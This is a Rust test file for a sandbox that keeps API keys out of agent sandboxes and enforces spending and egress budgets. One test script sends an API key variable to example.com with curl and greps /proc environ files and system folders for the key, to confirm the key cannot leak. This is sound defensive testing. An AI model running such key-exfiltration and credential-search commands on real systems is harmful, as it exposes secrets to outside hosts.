//! Keys that never enter the sandbox, and money that is counted on the way out.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};

use crate::both;
use crate::common::{Host, Server, Sloplet, World, fast, tools};
use crate::serving::{command, end, exec, invoke, restart, until};

/// The keys, as the host has them.
const ANTHROPIC: &str = "sk-ant-real-key-0123456789abcdef";
const OPENAI: &str = "sk-real-key-fedcba9876543210";

/// What a call of the agent comes to, in millionths of a dollar: 100 tokens in, 50 out.
const COST: u64 = 100 + 50 * 5;

const SECRETS: [&str; 2] =
    ["--secret=ANTHROPIC_API_KEY@api.anthropic.com;prefix=sk-ant-", "--secret=OPENAI_API_KEY@api.openai.com"];

fn with_keys(sloplet: Sloplet) -> Sloplet {
    sloplet.with("ANTHROPIC_API_KEY", ANTHROPIC).with("OPENAI_API_KEY", OPENAI)
}

/// The vendors' packages, of the interpreter that sandboxes have, too.
fn vendors() -> Option<PathBuf> {
    if fast() {
        return None; // takes long
    }
    let folder = tools::folder("llm-python").join("lib");
    Some(fs::read_dir(folder).unwrap().flatten().next().unwrap().path().join("site-packages"))
}

/// The options that show the agent to a sandbox, perhaps with packages.
fn agent(world: &World, packages: Option<&Path>) -> Vec<String> {
    fs::write(world.dir.join("share/agent.py"), include_str!("agent.py")).unwrap();
    let mut options = vec![world.mount()];
    if let Some(packages) = packages {
        options.push(format!("--mount={}:/packages", packages.display()));
        options.push("--env=PYTHONPATH=/packages".into());
    }
    options
}

#[track_caller]
fn run_agent(sloplet: &Sloplet, options: &[&str], what: &str) -> Value {
    let invocation = sloplet.invoke_run(options, &["python3", "-B", "/world/agent.py", what]);
    crate::shown(invocation.within(Duration::from_secs(180)).finish())
}

/// Files below a folder that hold one of the keys.
fn holding_keys(folder: &Path) -> Vec<PathBuf> {
    // As text, and as JSON has bytes.
    let bytes: Vec<String> = ANTHROPIC.bytes().map(|byte| byte.to_string()).collect();
    let pattern = format!("{ANTHROPIC}|{OPENAI}|{}", bytes.join(","));
    let output = Command::new("grep").args(["-rlaE", &pattern]).arg(folder).output().unwrap();
    String::from_utf8_lossy(&output.stdout).lines().map(PathBuf::from).collect()
}

#[test]
fn the_vendors_packages_work_without_the_keys() {
    let vendors = vendors();
    let host = Host::shared();
    let world = World::new(&host);
    let (full, options) = (vendors.is_some(), agent(&world, vendors.as_deref()));
    for sloplet in both(&host, &world).into_iter().map(with_keys) {
        let options: Vec<&str> = options.iter().map(String::as_str).chain(SECRETS).chain(["--budget-usd=1"]).collect();
        world.forget();
        if full {
            let shown = run_agent(&sloplet, &options, "packages");
            let keys = shown["keys"].as_array().unwrap();
            assert_eq!(shown["anthropic stream"], "Hello there", "{}", sloplet.name);
            assert_eq!([&shown["openai"], &shown["openai stream"]], ["Hello there", "Hello there"], "{}", sloplet.name);
            // The host showed the key that it was sent; inside, it is the placeholder again.
            assert_eq!(shown["anthropic"], format!("Hello there {}", keys[0].as_str().unwrap()));
            assert!(!shown.to_string().contains(ANTHROPIC) && !shown.to_string().contains(OPENAI), "{shown}");
            assert!(keys[0].as_str().unwrap().starts_with("sk-ant-"), "{shown}");
        } else {
            assert_eq!(run_agent(&sloplet, &options, "call"), 200, "{}", sloplet.name);
        }
        let calls = world.seen_of("call");
        assert_eq!(calls.len(), if full { 4 } else { 1 }, "{calls:?}");
        for call in calls {
            let sent = call["headers"]["authorization"].as_str().or(call["headers"]["Authorization"].as_str()).unwrap();
            let key = if call["path"] == "/v1/messages" { ANTHROPIC } else { OPENAI };
            assert_eq!(sent, format!("Bearer {key}"));
        }
        assert_eq!(holding_keys(&sloplet.data), Vec::<PathBuf>::new(), "{}", sloplet.name);
    }
}

#[test]
fn probe_61_the_keys_are_nowhere_inside_and_go_nowhere_else() {
    let host = Host::shared();
    let world = World::new(&host);
    // The host is where the names of this script's patterns are put together: they must not find themselves.
    let script = format!(
        r#"
        set -e
        cd /tmp
        a='{}' b='{}'
        python3 -B /world/agent.py call
        # To a host that is not named, it stays what it is, in whatever form.
        curl -sS --cacert /world/ca.pem -H "Authorization: Bearer $ANTHROPIC_API_KEY" -d "key=$ANTHROPIC_API_KEY" "https://example.com/post?key=$ANTHROPIC_API_KEY" >/dev/null
        curl -sS -H "Authorization: Bearer $ANTHROPIC_API_KEY" "http://example.com/get?key=$ANTHROPIC_API_KEY" >/dev/null
        # In the body it is not replaced even where it would be elsewhere, unless that is asked for.
        curl -sS -d "key=$ANTHROPIC_API_KEY" "https://api.anthropic.com/body" >/dev/null
        grep -rlaE "$a$b" /etc /tmp /home /root /run /var /dev/shm /proc/1/environ /proc/self/environ /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null || echo nowhere
        env | grep -c "$a$b" || true
        "#,
        &ANTHROPIC[..20],
        &ANTHROPIC[20..]
    );
    let options = agent(&world, None);
    for sloplet in both(&host, &world).into_iter().map(with_keys) {
        world.forget();
        let options: Vec<&str> =
            options.iter().map(String::as_str).chain([SECRETS[0], "--allow=example.com"]).collect();
        let ended = sloplet.sh(&options, &script).expect_code(0);
        assert_eq!(ended.out(), "200\nnowhere\n0\n", "{ended}");
        let seen = world.seen();
        let holding: Vec<&Value> = seen.iter().filter(|one| one.to_string().contains(ANTHROPIC)).collect();
        assert_eq!(holding.len(), 1, "{holding:?}");
        assert_eq!(holding[0]["kind"], "call");
        assert_eq!(seen.iter().filter(|one| one["host"] == "example.com").count(), 2);
        assert_eq!(holding_keys(&sloplet.data), Vec::<PathBuf>::new(), "{}", sloplet.name);

        // The same for one that stays: its snapshot, its record and what it printed.
        let served = Server::start(&sloplet);
        let id = command(&served, &[&["create", "--timeout=never"][..], &options].concat()).expect_code(0).word();
        let ended = command(&served, &["exec", &id, "--", "sh", "-c", &script]).expect_code(0);
        assert_eq!(ended.out(), "200\nnowhere\n0\n", "{ended}");
        command(&served, &["snapshot", &id]).expect_code(0);
        let shown = served.ask("GET", &format!("/sandboxes/{id}"), None).expect(200).text();
        assert!(!shown.contains(ANTHROPIC) && shown.contains("ANTHROPIC_API_KEY"), "{shown}");
        // The server itself must remember it, where nobody else can look.
        let kept = holding_keys(&sloplet.data);
        assert!(!kept.is_empty(), "nothing is looked for that could be found");
        for path in kept {
            assert!(path.to_string_lossy().contains(".db") || path.to_string_lossy().contains("sqlite"), "{path:?}");
            assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o077, 0, "{path:?}");
        }
        // Once the sandbox is gone nobody remembers it: neither the database nor its log, while the server goes on.
        command(&served, &["rm", &id]).expect_code(0);
        assert_eq!(holding_keys(&sloplet.data), Vec::<PathBuf>::new(), "{}", sloplet.name);
        end(served);
    }
}

#[test]
fn an_agent_that_loops_forever_is_stopped() {
    let vendors = vendors();
    let host = Host::shared();
    let world = World::new(&host);
    let (full, options) = (vendors.is_some(), agent(&world, vendors.as_deref()));
    let sloplet = with_keys(world.around(host.user()));
    let with = |more: &[&'static str]| -> Vec<String> {
        options
            .iter()
            .cloned()
            .chain([SECRETS[0].to_owned()])
            .chain(more.iter().map(|word| (*word).to_owned()))
            .collect()
    };
    if full {
        world.forget();
        let options = with(&["--budget-usd=0.01"]);
        let options: Vec<&str> = options.iter().map(String::as_str).collect();
        let shown = run_agent(&sloplet, &options, "loop");
        assert_eq!(shown["status"], 402, "{shown}");
        assert!(shown["message"].as_str().unwrap().contains("budget"), "{shown}");
        let (answers, calls) = (shown["answers"].as_u64().unwrap(), world.seen_of("call").len() as u64);
        assert!(answers > 0 && answers == calls && calls * COST <= 10_000, "{shown}, {calls} calls");
    }
    // At the same time, too.
    world.forget();
    let options_of_crowd = with(&["--budget-usd=0.01"]);
    let words: Vec<&str> = options_of_crowd.iter().map(String::as_str).collect();
    let statuses = run_agent(&sloplet, &words, "crowd");
    let admitted = statuses.as_array().unwrap().iter().filter(|status| **status == 200).count() as u64;
    let refused = statuses.as_array().unwrap().iter().filter(|status| **status == 402).count() as u64;
    assert_eq!(admitted + refused, 48, "{statuses}");
    assert!(admitted > 0 && refused > 0 && admitted * COST <= 10_000, "{statuses}");
    assert_eq!(world.seen_of("call").len() as u64, admitted);
    // Or everything ends.
    let options_of_kill = with(&["--budget-tokens=1000", "--at-cap=kill"]);
    let words: Vec<&str> = options_of_kill.iter().map(String::as_str).collect();
    let script = "python3 -B /world/agent.py crowd; sleep 1000";
    let ended = sloplet.sh(&words, script);
    assert!(ended.code != 0 && ended.stderr.contains("budget"), "{ended}");
    assert!(ended.stderr.contains(": everything inside is killed (--at-cap kill)"), "{ended}");
}

#[test]
fn a_first_line_that_is_not_http_does_not_escape_a_budget() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = r#"
body = '{"model":"gpt-4o","max_tokens":16000,"messages":[{"role":"user","content":"hi"}]}'
call = f'POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}'
show([exchange('api.openai.com', 80, first, call) for first in ['', 'A' * 65 + ' / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n', '\x01\x02\r\n', 'FROB /\r\n\r\n']])"#;
    for sloplet in both(&host, &world) {
        world.forget();
        // Nor does a rule that opts out of checks.
        let options = ["--allow=api.openai.com:80/tcp", "--budget-usd=0.0001"];
        let shown = crate::python(&sloplet, &world, &options, program);
        assert!(shown[0].as_str().unwrap().starts_with("HTTP/1.1 402 "), "{shown}");
        for text in shown.as_array().unwrap() {
            assert!(!text.as_str().unwrap().contains(" 200 "), "{shown}");
        }
        assert_eq!(world.seen_of("call"), Vec::<Value>::new(), "{}", sloplet.name);
    }
}

#[test]
fn budgets_of_sandboxes_that_stay() {
    let host = Host::shared();
    let world = World::new(&host);
    let options = agent(&world, None);
    let sloplet = with_keys(world.around(host.root()));
    let mut served = Server::start_with(&sloplet, &[]);
    let create = |served: &Server, more: &[&str]| -> String {
        let options: Vec<&str> =
            options.iter().map(String::as_str).chain([SECRETS[0]]).chain(more.iter().copied()).collect();
        command(served, &[&["create", "--timeout=never"][..], &options].concat()).expect_code(0).word()
    };
    let call = "import sys; sys.path.insert(0, '/world'); import agent; show(agent.call())";
    let spent =
        |served: &Server, id: &str| served.ask("GET", &format!("/sandboxes/{id}/budget"), None).expect(200).json();
    let state = |served: &Server, id: &str| {
        let list = command(served, &["ls", "--json"]).json();
        let found = list.as_array().unwrap().iter().find(|one| one["id"] == id).cloned();
        found.map(|one| one["state"].as_str().unwrap().to_owned())
    };
    // What is spent stays spent, whatever happens to the server.
    let id = create(&served, &["--budget-usd=0.003"]);
    assert_eq!(exec(&served, &id, call), 200);
    until("it is paid", || spent(&served, &id)["micro_usd"] == COST);
    served = restart(served);
    assert_eq!((&spent(&served, &id)["micro_usd"], &spent(&served, &id)["calls"]), (&json!(COST), &json!(1)));
    // Until nothing more fits.
    let calls = |served: &Server, id: &str| (0..20).take_while(|_| exec(served, id, call) == 200).count() as u64;
    let more = calls(&served, &id);
    assert!(more > 0 && (more + 1) * COST <= 3000, "{more}");
    until("it is paid", || spent(&served, &id)["micro_usd"] == (more + 1) * COST);
    served = restart(served);
    assert_eq!(exec(&served, &id, call), 402);
    let raised = served.ask("PUT", &format!("/sandboxes/{id}/budget"), Some(json!({"usd": "1"}))).expect(200).json();
    assert_eq!(raised["micro_usd"], (more + 1) * COST);
    assert_eq!(exec(&served, &id, call), 200);
    // A pot for two.
    let pot = ["--budget-usd=0.003", "--budget-group=team"];
    let (one, two) = (create(&served, &pot), create(&served, &pot));
    assert_eq!(exec(&served, &two, call), 200);
    let together = calls(&served, &one) + calls(&served, &two) + 1;
    assert_eq!(together, more + 1, "two have what one had");
    // At the cap.
    let paused = create(&served, &["--budget-usd=0.0005", "--at-cap=pause"]);
    let calling = invoke(&served, &["exec", &paused, "--", "python3", "-B", "/world/agent.py", "call"]).start();
    until("it is paused", || state(&served, &paused).as_deref() == Some("paused"));
    served.ask("PUT", &format!("/sandboxes/{paused}/budget"), Some(json!({"usd": "1"}))).expect(200);
    command(&served, &["resume", &paused]).expect_code(0);
    let _ = calling.finish();
    assert_eq!(exec(&served, &paused, call), 200);
    let killed = create(&served, &["--budget-usd=0.0005", "--at-cap=kill"]);
    let _ = command(&served, &["exec", &killed, "--", "python3", "-B", "/world/agent.py", "call"]);
    until("it is gone", || state(&served, &killed).is_none());
    // Commands are counted, too.
    let busy = create(&served, &["--budget-execs=2"]);
    for _ in 0..2 {
        command(&served, &["exec", &busy, "--", "true"]).expect_code(0);
    }
    let refused = command(&served, &["exec", &busy, "--", "true"]);
    assert!(refused.code != 0 && refused.stderr.contains("per minute"), "{refused}");
    end(served);
}

#[test]
fn bytes_are_bounded() {
    let host = Host::shared();
    let world = World::new(&host);
    let program = "
def load(stream, request):
    stream.sendall(request)
    count = 0
    try:
        while more := stream.recv(65536):
            count += len(more)
    except OSError:
        pass
    return count
get = b'GET /bytes/%d HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: close\\r\\n\\r\\n'
first = load(connect('example.com', 80), get % 1000)
second = load(connect('example.com', 80), get % 5000000)
text = exchange('example.com', 80, (get % 1).decode())
show([first > 1000, 500000 < second < 1100000, text.split('\\r\\n')[0], 'used up' in text])";
    for sloplet in both(&host, &world) {
        let options = ["--allow=example.com", "--budget-egress=1MiB"];
        let shown = crate::python(&sloplet, &world, &options, program);
        assert_eq!(shown, json!([true, true, "HTTP/1.1 403 Forbidden", true]), "{}", sloplet.name);
    }
}
